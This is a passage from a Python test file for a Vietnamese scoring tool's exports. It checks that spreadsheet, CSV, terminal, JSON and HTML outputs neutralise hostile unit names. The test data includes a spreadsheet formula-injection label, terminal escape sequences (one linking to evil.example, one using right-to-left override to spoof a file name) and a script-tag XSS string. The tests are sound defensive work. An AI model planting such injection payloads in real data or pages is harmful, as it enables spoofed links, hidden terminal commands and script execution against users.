                    seen |= payload.strip()[:3] in cell.value
                    assert cell.value[0] not in FORMULA_STARTS or cell.value[0] == "'"
                    assert not cell.value.lstrip().startswith(("=", "+", "@", "＝"))
    assert seen


def test_the_form_escapes_a_label_that_looks_like_a_formula(folder: Path) -> None:
    text = DEFINITION.replace("label: Số cán bộ,", "label: \"=HYPERLINK('http://x')\",")
    path = folder / "nhan.yaml"
    path.write_text(text, encoding="utf-8")
    definition = cds_index.read.registry.load_file(path)
    out = _path(folder, "form")
    excel.write_template(definition, out)
    book = openpyxl.load_workbook(out)
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert "'=HYPERLINK('http://x')" in [c.value for c in cells]


def test_xlsx_numbers_are_rounded_values_with_a_format(
    definition: cds_index.Definition, folder: Path
) -> None:
    path = _path(folder, "results")
    rows = _rows_named(definition, "Xã A")
    excel.write_results(definition, rows, path)
    ws = openpyxl.load_workbook(path)["Tổng hợp"]
    line = next(r for r in ws.iter_rows(min_row=3) if r[1].value == "xa-tot")
    a2 = rows[0].result.criteria()[1].points  # type: ignore[union-attr]
    assert a2 == Decimal(2) and line[3].value == 8.25  # 0 + 6·1/3 + 10·50/80
    sheet = openpyxl.load_workbook(path)["xa-tot"]
    cells = {r[0].value: r for r in sheet.iter_rows() if r[0].value}
    assert (
        cells["A.3"][5].value == 6.25 and cells["A.3"][5].number_format == "#,##0.00"
    )  # grouped, shown per locale (#12)
    # rank, id, name, pillar, total, applicable max, percent of it (#13), status, problems
    assert ws.auto_filter.ref == "A2:I4" and ws.print_title_rows.replace("$", "") == "2:2"
    assert ws.page_setup.orientation == "landscape"


# --- CSV files: BOM, rounding, full precision on request -------------------------------------------


@pytest.fixture(scope="session")
def thirds(definition: cds_index.Definition, folder: Path) -> Path:
    """A table whose unit earns 6·1/7 points: a repeating decimal."""
    return write_table(folder, [["xa-bay", "Xã Bảy", 7, 1, 0.5, "Có"]], formats={"E2": "0%"})


# 4 + 6/7 + 6.25 = 11.107142857142857142857… points, 55.5357142857142857… %
@pytest.mark.parametrize(
    ("flags", "bom", "percent"),
    [
        ([], True, "55.54"),
        (["--exact"], True, "55.53571428571428571"),
        (["--no-bom"], False, "55.54"),
        (["--exact", "--no-bom"], False, "55.53571428571428571"),
    ],
)
def test_csv_has_excels_mark_and_rounds_as_displayed(
    thirds: Path, folder: Path, flags: list[str], bom: bool, percent: str
) -> None:
    out = _path(folder, "out").with_suffix(".csv")
    assert (
        main(["score", str(folder / "bang.yaml"), str(thirds), "--format", "csv", "-o", str(out), *flags])
        == 0
    )
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") is bom
    (line,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
    assert line["percent"].startswith(percent) and (len(line["percent"]) > 8) is ("--exact" in flags)
    assert line["points"].startswith("11.1")


def test_csv_to_stdout_has_the_mark_too(
    thirds: Path, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["score", str(folder / "bang.yaml"), str(thirds), "--format", "csv"]) == 0
    assert capsys.readouterr().out.startswith("\ufeffunit_id,")


@pytest.mark.parametrize("exact", [False, True])
def test_rank_csv_uses_the_same_writer(
    thirds: Path, folder: Path, capsys: pytest.CaptureFixture[str], exact: bool
) -> None:
    args = ["rank", str(folder / "bang.yaml"), str(thirds), "--format", "csv", "--by", "total"] + (
        ["--exact"] if exact else []
    )
    assert main(args) == 0
    text = capsys.readouterr().out
    assert text.startswith("\ufeff")
    (line,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    assert line["score"] == ("11.10714285714285714286" if exact else "11.11"), line


# --- the terminal: no escape sequences from the data -------------------------------------------------

ESCAPES = [
    "\x1b[31mđỏ\x1b[0m",
    "\x1b]0;tiêu đề cửa sổ\x07",
    "\x1b]8;;http://evil.example\x1b\\bấm\x1b]8;;\x1b\\",
    "\x9b31mC1",
    "chuông\x07",
    "xóa\x08\x08",
    "\x1b[2J\x1b[H",
    "\u202egnp.exe",
    "\x00nul",
    "\x1bPdcs\x1b\\",
]


@pytest.mark.parametrize("name", ESCAPES)
def test_terminal_text_has_no_escapes(name: str) -> None:
    shown = terminal(name)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", shown), repr(shown)


@pytest.mark.parametrize("name", ESCAPES[:4])
def test_the_cli_prints_unit_names_without_escapes(
    definition: cds_index.Definition, folder: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    path = folder / f"ten-{len(name)}.csv"  # a spreadsheet cannot hold these; a CSV can
    path.write_text(f"unit_id,unit_name,staff,trained\nxa-a,Xã {name},10,nhiều\n", encoding="utf-8")
    assert main(["score", str(folder / "bang.yaml"), str(path)]) == 1
    captured = capsys.readouterr()
    assert "xa-a" in captured.out
    for text in (captured.out, captured.err):
        assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text


@pytest.mark.parametrize("name", ["Xã \x9b31m", "Xã \u202eA", "Xã \x1b[2J", "Xã \u2066B\u2069"])
def test_json_keeps_the_data_exactly_and_reaches_a_terminal_inert(
    definition: cds_index.Definition, name: str
) -> None:
    stream = io.StringIO()
    write_json(_rows_named(definition, name), stream)
    text = stream.getvalue()
    assert terminal(text) == text  # nothing left for a terminal to act on
    data = json.loads(text)
    assert data[0]["unit"]["name"] == name and data[1]["unit"]["id"] == name  # and the data exact


def test_bidirectional_marks_stay_in_cells_but_leave_the_terminal() -> None:
    assert cell_text("Xã \u202eA") == "Xã \u202eA"
    assert terminal("Xã \u202eA") == "Xã A"


def test_the_html_report_escapes_a_script_in_a_unit_name(
    definition: cds_index.Definition, folder: Path
) -> None:
    from cds_index.render.htmlreport import write_reports

    name = "<script>alert('xã')</script>"
    written, _ = write_reports(definition, _rows_named(definition, name), folder / "html")
    for page in written:
        text = Path(page).read_text(encoding="utf-8")
        assert "<script>alert" not in text
    assert any("&lt;script&gt;alert" in Path(p).read_text(encoding="utf-8") for p in written)


# --- every workbook code is triggered above -----------------------------------------------------------


def test_every_workbook_code_is_registered_and_triggered() -> None:
    assert set(CODES) >= WORKBOOK_CODES
    triggered = {c[3] for c in BAD_CELLS} | {"excel-stray-cell", "excel-corrupt", "merged-cells"}
    triggered.add("excel-hidden-row")  # tests/test_tables_session11.py (#11)
    assert triggered >= WORKBOOK_CODES
